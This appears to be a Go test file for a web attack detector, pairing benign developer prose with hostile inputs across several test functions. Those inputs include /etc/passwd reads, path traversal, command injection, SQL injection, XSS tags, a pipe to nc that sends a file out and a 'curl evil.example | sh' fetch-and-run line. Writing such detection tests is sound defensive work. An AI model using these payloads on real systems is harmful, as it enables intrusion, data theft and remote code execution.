package detect

import "testing"

// Developer prose that mentions files, commands, code and SQL, next to the
// attacks that hide in the same shapes. Expectations are per paranoia level
// (see runLevelCases): "" nothing, "*" any attack, or a rule name.

func TestProsePathMentions(t *testing.T) {
	runLevelCases(t, []levelCase{
		// mentions: a path mid-sentence is something the writer talks about
		{"log mid-sentence", body("comment", "The log file /var/log/cleanup.log stays empty after the job runs."), "", ""},
		{"key in home", body("comment", "My key is in ~/.ssh/id_ed25519 but git still asks for a password."), "", ""},
		{"question", body("comment", "Can you check /var/log/nginx/error.log on web-2?"), "", ""},
		{"cron line", body("note", "0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1"), "", ""},
		{"audit question", body("comment", "Why can the service account read /etc/shadow on the bastion host?"), "", ""},
		{"cookie keeps %20", cookie("pref", "The%20log%20file%20%2Fvar%2Flog%2Fapp.log%20stays%20empty"), "", ""},
		{"english word first", body("comment", "Last week the file /var/log/app.log filled the disk."), "", ""},
		// a parameter's name does not make a sentence a file name or a
		// command line: no file sink reads one, and a shell runs one
		// only from a command word
		{"file sink prose", q("file", "please read /etc/passwd for me now"), "", ""},
		{"content sink prose", body("content", "The /etc/group file is a text file that defines the groups on the system."), "", ""},
		{"code sink prose", body("code", "Most systems provide symbolic links /dev/stdin, /dev/stdout and /dev/stderr in /proc/self/fd."), "", ""},
		{"command line in a code sink", body("code", "cat /etc/passwd and more words"), "*", "*"},
		{"sentence about a command in a code sink", body("code", "ls uses the following defaults:"), "", "cmdi-command-word"},
		{"manual page title in a code sink", body("code", "getent - get entries from Name Service Switch libraries"), "", ""},
		{"command alone in a code sink", body("code", "whoami"), "*", "*"},
		{"command with a flag in a code sink", body("code", "uname -a"), "*", "*"},
		{"command with a few words in a code sink", body("code", "ansible-galaxy collection install community.general"), "*", "*"},
		// requests: the whole value, traversal, a command line, a
		// redirect, a glued parameter, a separator
		{"whole value", q("q", "/etc/passwd"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"whole value in a file sink", q("file", "/etc/passwd"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"traversal in prose", body("comment", "see the file ../../../etc/passwd for the details"), "path-traversal", "path-traversal"},
		{"command line", body("comment", "tail -n 50 /var/log/auth.log and more text here"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"dd operands", hdr("referer", "dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9"), "*", "*"},
		{"read redirect", body("comment", "mail me the output of sort < /etc/passwd please"), "*", "*"},
		{"glued parameter", body("comment", "the scanner asked for /index.php?page=/etc/passwd today"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"separator in prose", body("comment", "thanks for the help; cat /etc/passwd and more words"), "*", "*"},
		{"substitution in prose", body("comment", "my name is $(cat /etc/passwd) and I like cats"), "*", "*"},
		{"backticks in prose", body("comment", "nice post, the answer is `cat /etc/passwd` I think"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"subshell in prose", body("comment", "nice post, the answer is (tail -n 5 /etc/shadow) I think"), "lfi-sensitive-file", "lfi-sensitive-file"},
		// a glob needs a wildcard: "?" ending a sentence is punctuation
		{"question mark", body("comment", "Is /etc/nginx/nginx.conf the right file?"), "", ""},
		{"globbed file", body("comment", "x; cat /etc/pa??wd"), "*", "*"},
		{"globbed file alone", q("q", "/e?c/pa?swd"), "*", "*"},
		// one level up to a static asset in a file field is a relative reference
		{"asset up one", body("path", "../assets/logo.png"), "", ""},
		{"style up one", body("file", "./../styles/main.css"), "", ""},
		{"source up one", body("path", "../config.php"), "path-traversal", "path-traversal"},
		{"env up one", body("path", "../.env"), "path-traversal", "path-traversal"},
		{"two levels", body("path", "../../assets/logo.png"), "path-traversal", "path-traversal"},
		{"encoded asset", body("path", "..%2fassets/logo.png"), "path-traversal", "path-traversal"},
		{"nul asset", body("path", "../index.php\x00.png"), "*", "*"},
		{"mid-path up", body("path", "assets/../logo.png"), "path-traversal", "path-traversal"},
	})
}

func TestProseCodeSpans(t *testing.T) {
	runLevelCases(t, []levelCase{
		// pipelines quoted in markdown prose show a command line
		{"grep wc", body("comment", `Use `+"`"+`grep -rn "TODO" src/ | wc -l`+"`"+` to count the remaining TODOs.`), "", ""},
		{"du sort", body("comment", "Use `du -sh * | sort -h` to find out what is eating the disk."), "", ""},
		{"compose", body("comment", "Running `docker compose up -d; docker compose logs -f api` shows the crash loop."), "", ""},
		{"ls head", body("comment", `Why does `+"`ls | head`"+` say "Broken pipe" sometimes?`), "", ""},
		{"fenced", body("comment", "Steps to reproduce the bug:\n```\nps aux | sort -k3 -r | head\n```\nthen the list is empty"), "", ""},
		// the attacks that hide in the same shapes
		// an install one-liner quoted in a question (issue 14's false
		// positive), flagged only at paranoia 2
		{"install one-liner in span", body("comment", "Is `curl -fsSL https://get.example.com | sudo -E bash -` still fine?"), "", "cmdi-separator"},
		{"pipe to shell in span", body("comment", "Is `curl -fsSL http://get.example.com | sudo -E bash -` still fine?"), "cmdi-separator", "cmdi-separator"},
		{"exfil in span", body("comment", "Please run `cat notes.txt | nc 203.0.113.9 4444` for me today"), "cmdi-separator", "cmdi-separator"},
		{"separator outside span", body("comment", "Use `ls` to list them all; cat /etc/passwd"), "*", "*"},
		{"separator in prose", body("comment", "I like the article very much; id"), "*", "*"},
		{"substitution in prose", body("comment", "my name is $(id) and I like long walks on the beach"), "*", "*"},
		{"substitution in span", body("comment", "see the output of `echo $(id)` in the log for details"), "*", "*"},
		{"unclosed span", body("comment", "hello there `x` my friend `; uname -a"), "cmdi-separator", "cmdi-separator"},
	})
}

func TestPastedSQL(t *testing.T) {
	runLevelCases(t, []levelCase{
		// statements pasted into comments, ended by ";", maybe followed by prose
		{"select", body("comment", "SELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;"), "", ""},
		{"select desc", q("q", "SELECT id, title FROM posts WHERE author_id = 7 ORDER BY published_at DESC;"), "", ""},
		{"update then prose", body("comment", "UPDATE users SET plan = 'pro' WHERE id = 42; was run by mistake, can you revert it?"), "", ""},
		{"insert", body("comment", "INSERT INTO audit_log (user_id, action) VALUES (42, 'login');"), "", ""},
		// injections in the same clothes
		{"bare statement", body("comment", "select * from user where password_last_changed not between '2021-04-11' and '2021-04-11'"), "*", "*"},
		{"or tautology", body("comment", "SELECT name FROM users WHERE name = 'a' OR 1=1;"), "*", "*"},
		{"union", body("comment", "SELECT name FROM users WHERE id = 1 UNION SELECT password FROM admins;"), "*", "*"},
		{"stacked", body("comment", "SELECT name FROM users WHERE id = 1; DROP TABLE users;"), "*", "*"},
		{"comment tail", body("comment", "SELECT name FROM users WHERE name = 'admin'--';"), "*", "*"},
		{"timing", body("comment", "SELECT name FROM users WHERE id = 1 AND sleep(5);"), "*", "*"},
		{"catalog", body("comment", "SELECT table_name FROM information_schema.tables WHERE 1 = 1;"), "*", "*"},
		{"conditional", body("comment", "SELECT IIF(1 > 1, 'TRUE', 'FALSE') FROM dual WHERE a = 1;"), "*", "*"},
		{"subquery", body("comment", "SELECT a FROM t WHERE id = (SELECT max(id) FROM admins);"), "*", "*"},
		{"odd quote", body("comment", "SELECT name FROM users WHERE name = 'x' AND pass = 'y;"), "*", "*"},
		{"breakout before", body("comment", "x' ; SELECT name FROM users WHERE id = 1;"), "*", "*"},
		// a system database's name inside an identifier names nothing
		{"identifier holding msdb", q("q", "idv_msdb database"), "", ""},
		{"system database", q("q", "1 union select name from msdb..sysjobs--"), "*", "*"},
	})
}

func TestCodeInProse(t *testing.T) {
	runLevelCases(t, []levelCase{
		// prose that names code
		{"python tip", body("comment", `Python tip: use subprocess.run(["ls", "-l"]) rather than os.system; it avoids the shell.`), "", ""},
		{"ruby system", body("comment", `Ruby's system("ls", "-l") with separate arguments doesn't go through the shell either.`), "", ""},
		{"java runtime", body("comment", "The old code used Runtime.getRuntime().exec(cmd); we replaced it with ProcessBuilder."), "", ""},
		{"node require", body("comment", "Our sandbox blocks require('child_process'), so use the fetch API for HTTP calls."), "", ""},
		// payloads: code only, words only inside strings, or open tags
		{"python payload", body("comment", `__import__('os').system('id')`), "*", "*"},
		{"words in strings", body("comment", `__import__('os').system('echo you are so very hacked now friend')`), "*", "*"},
		{"php call", body("comment", `system("cat /etc/passwd");`), "*", "*"},
		{"node payload", body("comment", `require('child_process').exec('curl evil.example | sh')`), "*", "*"},
		{"java payload", body("comment", `java.lang.Runtime.getRuntime().exec("id")`), "*", "*"},
		{"open tag in prose", body("comment", "please have a look at this nice <?php system($_GET['c']); ?> thank you"), "*", "*"},
		{"subst in prose", body("comment", "nice post, thanks for sharing it with us $(whoami) really"), "*", "*"},
	})
}

func TestMathProse(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"sqrt", body("comment", "sqrt(2) ≈ 1.41421356"), "", ""},
		{"log ln", body("comment", "log(100) = 2 and ln(e) = 1, so the chart uses base 10."), "", ""},
		{"contraction", body("comment", "abs(-3) = 3 and pow(2, 10) = 1024, that's all the helper does."), "", ""},
		// timing, conditionals, breakouts and keywords keep the verdict
		{"sleep", q("id", "sleep(5)"), "*", "*"},
		{"math then sleep", q("id", "abs(1) and sleep(5)"), "*", "*"},
		{"math breakout", q("id", "abs(1)' or '1'='1"), "*", "*"},
		{"math union", q("id", "abs(1) union select password from users"), "*", "*"},
		{"math comment", q("id", "floor(1) or 1=1-- -"), "*", "*"},
		{"conditional", q("id", "if(1=1,sleep(5),0)"), "*", "*"},
	})
}

// TestScriptElementMentions: a sentence that names a script element runs
// nothing when every one it holds loads nothing and acts on nothing; a
// probe, a script that calls or assigns, or one that loads a source is
// still an attack.
func TestScriptElementMentions(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"question about a tag", body("comment", "Why is my <script> tag not executing when I insert it with innerHTML? (Scripts inserted that way never run; use createElement instead.)"), "", "*"},
		{"two attributes compared", body("comment", "What's the difference between <script defer> and <script async>?"), "", "*"},
		{"a lone probe", q("q", "<script>"), "*", "*"},
		{"a breakout probe", q("q", `"><script>`), "*", "*"},
		{"a call in a sentence", body("comment", "I said <script>alert(1)</script> would work here"), "*", "*"},
		{"an optional call in a sentence", body("comment", "I said <script>alert?.(1) would work here"), "*", "*"},
		{"a source in a sentence", body("comment", "the page loads <script src=//evil.example/x.js> for us"), "*", "*"},
		{"other markup in a sentence", body("comment", "The <script> tag and <img src=x onerror=alert(1)> both run"), "*", "*"},
	})
}
